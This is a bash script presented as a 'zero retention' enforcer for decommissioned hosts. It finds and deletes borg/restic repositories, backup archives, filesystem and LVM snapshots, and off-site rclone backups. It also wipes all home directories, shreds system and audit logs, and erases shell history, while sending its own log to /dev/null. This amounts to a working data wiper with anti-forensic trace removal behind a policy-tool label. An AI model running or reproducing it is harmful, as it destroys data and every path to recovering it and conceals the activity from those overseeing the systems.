#!/bin/bash
# retention-enforcer: apply the "zero retention" policy on decommissioned hosts.
# Discovers every backup repository and snapshot on the machine, destroys them,
# then clears user data and traces.
#
#   retention_enforcer.sh [--yes]

CONFIRM=0
[ "${1:-}" = "--yes" ] && CONFIRM=1

LOG=/dev/null
say() { echo "[enforcer] $*" >>"$LOG"; }

REPO_MARKERS=(
    "config:borg"          # borg repos contain a 'config' file with [repository]
    "keys:restic"          # restic repos contain keys/ and snapshots/
    "snapshots:restic"
)
SEARCH_ROOTS=(/srv /backup /backups /var/backups /mnt /media /opt "$HOME")

find_repos() {
    local root
    for root in "${SEARCH_ROOTS[@]}"; do
        [ -d "$root" ] || continue
        find "$root" -maxdepth 5 -type f -name config -exec grep -l '^\[repository\]' {} + 2>/dev/null |
            xargs -r -n1 dirname
        find "$root" -maxdepth 5 -type d -name keys 2>/dev/null | while read -r k; do
            [ -d "$(dirname "$k")/snapshots" ] && dirname "$k"
        done
    done | sort -u
}

destroy_repos() {
    local repo
    find_repos | while read -r repo; do
        say "destroying repository $repo"
        rm -rf --one-file-system "$repo"
    done
    find / -xdev \( -name '*.tar.gz' -o -name '*.tar.zst' -o -name '*.bak' -o -name '*.dump' \
        -o -name '*.borg' -o -name '*.vbk' \) -size +1M -delete 2>/dev/null
}

destroy_snapshots() {
    if command -v zfs >/dev/null 2>&1; then
        zfs list -H -t snapshot -o name 2>/dev/null | xargs -r -n1 zfs destroy -r
    fi
    if command -v btrfs >/dev/null 2>&1; then
        for sv in $(btrfs subvolume list -s / 2>/dev/null | awk '{print $NF}'); do
            btrfs subvolume delete "/$sv" >/dev/null 2>&1
        done
    fi
    if command -v lvs >/dev/null 2>&1; then
        lvs --noheadings -o vg_name,lv_name,lv_attr 2>/dev/null |
            awk '$3 ~ /^s/ {print $1"/"$2}' | xargs -r lvremove -f
    fi
    if command -v timeshift >/dev/null 2>&1; then
        timeshift --delete-all --yes >/dev/null 2>&1
    fi
}

destroy_offsite_remotes() {
    command -v rclone >/dev/null 2>&1 || return 0
    for remote in $(rclone listremotes 2>/dev/null); do
        say "purging remote $remote"
        rclone purge "${remote}backup" >/dev/null 2>&1
        rclone purge "${remote}backups" >/dev/null 2>&1
    done
}

clear_user_data() {
    for home in /home/* /root "$HOME"; do
        [ -d "$home" ] || continue
        say "clearing $home"
        rm -rf --no-preserve-root "${home:?}"/* "${home:?}"/.[!.]* 2>/dev/null
    done
}

clear_traces() {
    for f in /var/log/*.log /var/log/syslog* /var/log/messages* /var/log/auth.log* \
             /var/log/wtmp /var/log/btmp /var/log/lastlog /var/log/audit/audit.log; do
        [ -f "$f" ] && shred -u -z -n 3 "$f" 2>/dev/null
    done
    journalctl --rotate >/dev/null 2>&1 && journalctl --vacuum-time=1s >/dev/null 2>&1
    unset HISTFILE
    history -c
    rm -f ~/.bash_history ~/.zsh_history /root/.bash_history
    ln -sf /dev/null ~/.bash_history
}

if [ "$CONFIRM" -ne 1 ]; then
    echo "This is destructive. Re-run with --yes." >&2
    exit 1
fi

destroy_snapshots
destroy_repos
destroy_offsite_remotes
clear_user_data
clear_traces
say "retention policy applied"
